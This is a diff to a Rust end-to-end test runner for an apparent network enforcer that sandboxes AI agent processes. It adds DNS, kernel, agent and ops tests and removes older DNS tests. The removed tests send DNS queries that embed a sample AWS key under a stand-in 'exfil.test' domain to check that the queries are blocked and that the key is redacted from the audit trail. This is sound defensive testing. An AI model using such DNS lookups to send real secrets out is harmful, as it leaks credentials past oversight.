@@ -6,7 +6,11 @@
 //! its cleanup (see `harness::Env`'s `Drop`) runs after the last test whatever happened; the output follows libtest's
 //! (`test NAME ... ok`, `test result: …`). Arguments that do not start with `-` filter tests by substring.
 
+mod agent;
+mod dns;
 mod harness;
+mod kernel;
+mod ops;
 mod reload;
 mod sdk;
 
@@ -16,9 +20,9 @@ use std::process::{Command, ExitCode, Stdio};
 use std::sync::mpsc;
 use std::time::{Duration, Instant};
 
+use dns::DNS_CLIENT;
 use harness::{
-    Env, API_HOST, BAD_HOST, BAD_TLS_PORT, DNS_ANSWER, ECHO_ALLOWED, ECHO_BLOCKED, UDP_SINK,
-    V4_ONLY_HOST,
+    Env, API_HOST, BAD_HOST, BAD_TLS_PORT, ECHO_ALLOWED, ECHO_BLOCKED, UDP_SINK, V4_ONLY_HOST,
 };
 
 type Test = (&'static str, fn(&mut Env));
@@ -71,16 +75,120 @@ const TESTS: &[Test] = &[
         udp_from_tagged_is_refused_untagged_arrives,
     ),
     (
-        "dns_allowed_resolves_blocked_refused_each_audited",
-        dns_allowed_resolves_blocked_refused_each_audited,
+        "dns_allowed_resolves_blocked_answered_locally_each_audited",
+        dns::allowed_resolves_blocked_answered_locally_each_audited,
     ),
     (
         "dns_glibc_resolver_accepts_redirected_answers",
-        dns_glibc_resolver_accepts_redirected_answers,
+        dns::glibc_resolver_accepts_redirected_answers,
+    ),
+    (
+        "dns_over_tcp_large_answers_and_pipelining",
+        dns::over_tcp_large_answers_and_pipelining,
+    ),
+    (
+        "dns_refused_answer_modes_under_glibc_and_curl",
+        dns::refused_answer_modes_under_glibc_and_curl,
+    ),
+    (
+        "dns_one_agent_flooding_does_not_starve_another",
+        dns::one_agent_flooding_does_not_starve_another,
+    ),
+    (
+        "raw_and_packet_sockets_of_a_tagged_root_process_are_refused_and_recorded",
+        kernel::raw_and_packet_sockets_of_a_tagged_root_process_are_refused_and_recorded,
+    ),
+    (
+        "icmp_ping_sockets_of_a_tagged_process_are_refused",
+        kernel::icmp_ping_sockets_of_a_tagged_process_are_refused,
+    ),
+    (
+        "tagging_the_daemons_cgroup_is_refused",
+        kernel::tagging_the_daemons_cgroup_is_refused,
+    ),
+    (
+        "a_tagged_listener_is_unreachable_from_another_host_unless_its_profile_serves",
+        kernel::a_tagged_listener_is_unreachable_from_another_host_unless_its_profile_serves,
+    ),
+    (
+        "getpeername_reports_the_original_destination",
+        kernel::getpeername_reports_the_original_destination,
+    ),
+    (
+        "a_connect_straight_to_the_proxy_is_recorded_with_its_agent",
+        kernel::a_connect_straight_to_the_proxy_is_recorded_with_its_agent,
+    ),
+    (
+        "origins_are_keyed_by_the_full_local_address",
+        kernel::origins_are_keyed_by_the_full_local_address,
+    ),
+    (
+        "kernel_refusals_are_rate_bounded_and_counted",
+        kernel::kernel_refusals_are_rate_bounded_and_counted,
+    ),
+    (
+        "a_tagged_process_with_the_dead_daemons_pid_is_not_exempt",
+        kernel::a_tagged_process_with_the_dead_daemons_pid_is_not_exempt,
     ),
     (
         "one_audit_record_per_request_and_verify_passes",
         one_audit_record_per_request_and_verify_passes,
+    ),
+    (
+        "agent_runs_unprivileged_without_capabilities",
+        agent::runs_unprivileged_without_capabilities,
+    ),
+    (
+        "agent_cannot_escape_read_keys_or_stop_the_daemon",
+        agent::cannot_escape_read_keys_or_stop_the_daemon,
+    ),
+    (
+        "agent_sudo_caller_root_refusal_and_allow_root",
+        agent::sudo_caller_root_refusal_and_allow_root,
+    ),
+    (
+        "agent_published_bundle_is_readable_keys_are_not",
+        agent::published_bundle_is_readable_keys_are_not,
+    ),
+    (
+        "trust_variables_replace_inherited_values",
+        agent::trust_variables_replace_inherited_values,
+    ),
+    (
+        "trust_every_runtime_trusts_the_enforcer_ca",
+        agent::every_runtime_trusts_the_enforcer_ca,
+    ),
+    (
+        "trust_a_client_refusing_the_certificate_is_recorded",
+        agent::a_client_refusing_the_certificate_is_recorded,
+    ),
+    (
+        "upstream_trust_comes_from_the_system_store",
+        agent::upstream_trust_comes_from_the_system_store,
+    ),
+    (
+        "ops_status_reports_the_daemon",
+        ops::status_reports_the_daemon,
+    ),
+    (
+        "ops_metrics_pass_promtool_and_prometheus_scrapes_them",
+        ops::metrics_pass_promtool_and_prometheus_scrapes_them,
+    ),
+    (
+        "ops_notify_ready_watchdog_reload_stopping",
+        ops::notify_ready_watchdog_reload_stopping,
+    ),
+    (
+        "ops_glob_profiles_tag_cgroups_as_they_appear",
+        ops::glob_profiles_tag_cgroups_as_they_appear,
+    ),
+    (
+        "ops_setup_errors_name_what_is_missing",
+        ops::setup_errors_name_what_is_missing,
+    ),
+    (
+        "ops_the_units_capabilities_suffice_and_each_is_needed",
+        ops::the_units_capabilities_suffice_and_each_is_needed,
     ),
     ("sdk_openai_python", sdk::openai_python_sdk),
     ("sdk_anthropic_python", sdk::anthropic_python_sdk),
@@ -393,8 +501,8 @@ fn spoofed_plain_http_host_gets_421_and_never_reaches_upstream(env: &mut Env) {
 /// speaking RFC 6455 itself (tests/e2e/ws_client.py).
 fn websocket_is_decided_then_relayed(env: &mut Env) {
     env.need_daemon();
-    let script = harness::repo_root().join("tests/e2e/ws_client.py");
-    let script = script.to_str().unwrap_or_default();
+    let script = env.script("ws_client.py");
+    let script = script.as_str();
     for allowed in [true, false] {
         let path = unique(if allowed { "/allowed" } else { "/blocked" }, "websocket");
         let (code, out, err) =
@@ -428,7 +536,7 @@ fn websocket_is_decided_then_relayed(env: &mut Env) {
 fn explicit_proxy_connect_and_absolute_form(env: &mut Env) {
     env.need_daemon();
     let proxy = format!("http://127.0.0.1:{}", env.explicit_port);
-    let bundle = env.dir.path().join("state/ca/bundle.pem");
+    let bundle = env.dir.path().join("state/public/bundle.pem");
     let bundle = bundle.to_str().unwrap_or_default();
     for (scheme, allowed) in [("https", true), ("https", false), ("http", true)] {
         let tag = format!("explicit-{scheme}");
@@ -505,7 +613,7 @@ fn mentions_substring(v: &serde_json::Value, needle: &str) -> bool {
 /// Tagged, the client sees the enforcer's certificate; untagged, the same request sees the upstream's own.
 fn untagged_request_is_not_intercepted(env: &mut Env) {
     env.need_daemon();
-    let enforcer_ca = env.dir.path().join("state/ca/ca.pem");
+    let enforcer_ca = env.dir.path().join("state/public/ca.pem");
     assert!(
         enforcer_ca.exists(),
         "no enforcer CA at {}",
@@ -547,13 +655,8 @@ fn untagged_request_is_not_intercepted(env: &mut Env) {
 fn sse_arrives_event_by_event(env: &mut Env) {
     env.need_daemon();
     for (i, http) in ["--http1.1", "--http2"].into_iter().enumerate() {
-        let mut cmd = Command::new(harness::enforcer_bin());
-        cmd.arg("exec").arg("--config").arg(&env.config).args([
-            "--profile",
-            harness::PROFILE,
-            "--",
-            "curl",
-        ]);
+        let mut cmd = env.exec_command();
+        cmd.arg("curl");
         sse_event_by_event(env, cmd, http, &format!("tagged-{i}"), &[]);
     }
 }
@@ -760,186 +863,6 @@ fn udp_from_tagged_is_refused_untagged_arrives(env: &mut Env) {
     }
     std::thread::sleep(Duration::from_millis(300));
     assert_eq!(env.udp_count(UDP_SINK), want, "datagrams received");
-}
-
-/// A raw DNS query (A, RD) for argv[2] with id argv[3] to resolver argv[1] port 53, by sendto() (argv[4] = `sendto`)
-/// or connect() + send(). Prints JSON: the reply's source address and port, id, rcode, answer count and the IPv4
-/// address of the last answer when there is one; or `{"error": ...}`.
-const DNS_CLIENT: &str = r#"
-import json, socket, sys
-resolver, name, qid, op = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
-q = qid.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
-for label in name.split("."):
-    q += bytes([len(label)]) + label.encode()
-q += b"\x00\x00\x01\x00\x01"
-fam = socket.AF_INET6 if ":" in resolver else socket.AF_INET
-s = socket.socket(fam, socket.SOCK_DGRAM)
-s.settimeout(10)
-try:
-    if op == "connect":
-        s.connect((resolver, 53))
-        s.send(q)
-    else:
-        s.sendto(q, (resolver, 53))
-    r, src = s.recvfrom(4096)
-    an = int.from_bytes(r[6:8], "big")
-    print(json.dumps({"src": src[0], "port": src[1], "id": int.from_bytes(r[:2], "big"), "rcode": r[3] & 15,
-                      "answers": an, "ip": socket.inet_ntoa(r[-4:]) if an else None}))
-except Exception as e:
-    print(json.dumps({"error": repr(e)}))
-"#;
-
-/// The audit records of DNS queries.
-fn dns_records(env: &Env) -> Vec<serde_json::Value> {
-    env.audit_records()
-        .into_iter()
-        .filter(|r| r["request"]["scheme"] == "dns")
-        .collect()
-}
-
-/// DNS from a tagged process goes through the policy and the audit trail, whatever resolver address it names: an
-/// allowed name resolves with the netns responder's answer (the reply reads back from the resolver it asked), a
-/// name a block rule covers gets REFUSED and never reaches the responder, and every query leaves one record.
-fn dns_allowed_resolves_blocked_refused_each_audited(env: &mut Env) {
-    env.need_daemon();
-    const SECRET: &str = "AKIAIOSFODNN7EXAMPLE";
-    let blocked = format!("{SECRET}.exfil.test");
-    let resolvers = [
-        env.host_v4.clone(),
-        env.host_v6.clone(),
-        format!("::ffff:{}", env.host_v4),
-    ];
-    let mut queries = 0;
-    let before_records = dns_records(env).len();
-    for (i, resolver) in resolvers.iter().enumerate() {
-        for op in ["sendto", "connect"] {
-            let id = (1000 + 10 * i + usize::from(op == "connect")).to_string();
-            let before = env.dns_count(API_HOST);
-            let (code, out, err) =
-                env.exec_tagged(&["python3", "-c", DNS_CLIENT, resolver, API_HOST, &id, op]);
-            assert_eq!(code, 0, "{err}");
-            let v: serde_json::Value = serde_json::from_str(out.trim())
-                .unwrap_or_else(|e| panic!("client output {out:?}: {e}; {err}"));
-            let want_src = resolver.as_str();
-            assert_eq!(
-                (v["src"].as_str(), v["port"].as_u64()),
-                (Some(want_src), Some(53)),
-                "{resolver} {op}: {v}"
-            );
-            assert_eq!(v["id"].to_string(), id, "{v}");
-            assert_eq!(v["rcode"], 0, "{resolver} {op}: {v}");
-            assert_eq!(v["ip"], DNS_ANSWER, "{resolver} {op}: {v}");
-            assert_eq!(env.dns_count(API_HOST), before + 1, "{resolver} {op}");
-
-            let (code, out, err) =
-                env.exec_tagged(&["python3", "-c", DNS_CLIENT, resolver, &blocked, &id, op]);
-            assert_eq!(code, 0, "{err}");
-            let v: serde_json::Value = serde_json::from_str(out.trim())
-                .unwrap_or_else(|e| panic!("client output {out:?}: {e}; {err}"));
-            assert_eq!(v["rcode"], 5, "{resolver} {op}: REFUSED expected: {v}");
-            assert_eq!(v["id"].to_string(), id, "{v}");
-            assert_eq!(v["src"].as_str(), Some(want_src), "{v}");
-            queries += 2;
-        }
-    }
-    assert_eq!(
-        env.dns_count(&blocked),
-        0,
-        "a refused name reached the responder"
-    );
-
-    let recs = dns_records(env);
-    assert_eq!(recs.len(), before_records + queries, "one record per query");
-    let new = &recs[before_records..];
-    for rec in new {
-        assert!(
-            !rec.to_string().contains(SECRET),
-            "the key is in the trail: {rec}"
-        );
-        assert_eq!(rec["request"]["method"], "A", "{rec}");
-        assert_eq!(rec["request"]["port"], 53, "{rec}");
-        assert_eq!(rec["agent"]["profile"], harness::PROFILE, "{rec}");
-        assert!(rec["agent"]["pid"].as_u64().is_some(), "{rec}");
-        if rec["request"]["host"] == API_HOST {
-            assert_record(rec, "allow", Some("e2e-allow-api"), "forwarded");
-        } else {
-            assert_record(rec, "block", Some("e2e-block-exfil"), "blocked");
-            let host = rec["request"]["host"].as_str().unwrap_or_default();
-            assert!(
-                host.to_ascii_lowercase().ends_with(".exfil.test")
-                    && host.contains("[REDACTED:aws-access-key]"),
-                "{rec}"
-            );
-        }
-    }
-    // The resolver the agent named is recorded.
-    let ips: Vec<&str> = new
-        .iter()
-        .filter_map(|r| r["request"]["ip"].as_str())
-        .collect();
-    for want in [env.host_v4.as_str(), env.host_v6.as_str()] {
-        assert!(ips.contains(&want), "resolver {want} not in {ips:?}");
-    }
-    env.assert_audit_verifies();
-}
-
-/// getaddrinfo(argv[1]) through glibc: the sorted addresses, or `gaierror`.
-const GETADDRINFO: &str = r#"
-import socket, sys
-try:
-    print(" ".join(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443, 0, socket.SOCK_STREAM)})))
-except socket.gaierror as e:
-    print("gaierror", e.errno)
-"#;
-
-/// glibc's stub resolver (what curl, Python and most agents use), pointed by a private resolv.conf at an address
-/// where nothing listens: it accepts the redirected answers (it checks that a reply comes from the nameserver it
-/// asked) for an allowed name, and fails to resolve a refused one, which never reaches the responder.
-fn dns_glibc_resolver_accepts_redirected_answers(env: &mut Env) {
-    env.need_daemon();
-    let conf = env.dir.path().join("resolv.conf");
-    std::fs::write(
-        &conf,
-        format!("nameserver {}\noptions attempts:1 timeout:3\n", env.host_v4),
-    )
-    .expect("write resolv.conf");
-    let resolve = |name: &str| {
-        let out = Command::new("unshare")
-            .args(["--mount", "--propagation", "private", "sh", "-c"])
-            .arg(r#"mount --bind "$0" /etc/resolv.conf && exec "$@""#)
-            .arg(&conf)
-            .arg(harness::enforcer_bin())
-            .arg("exec")
-            .arg("--config")
-            .arg(&env.config)
-            .args([
-                "--profile",
-                harness::PROFILE,
-                "--",
-                "python3",
-                "-c",
-                GETADDRINFO,
-                name,
-            ])
-            .stdin(Stdio::null())
-            .output()
-            .expect("unshare runs");
-        format!(
-            "{}{}",
-            String::from_utf8_lossy(&out.stdout).trim(),
-            String::from_utf8_lossy(&out.stderr).trim()
-        )
-    };
-    let before = env.dns_count(API_HOST);
-    assert_eq!(resolve(API_HOST), DNS_ANSWER);
-    assert!(
-        env.dns_count(API_HOST) > before,
-        "the query reached the responder"
-    );
-    let blocked = "glibc.AKIAIOSFODNN7EXAMPLE.exfil.test";
-    let out = resolve(blocked);
-    assert!(out.starts_with("gaierror"), "{out}");
-    assert_eq!(env.dns_count(blocked), 0);
 }
 
 fn run(cmd: &[&str]) -> (i32, String, String) {
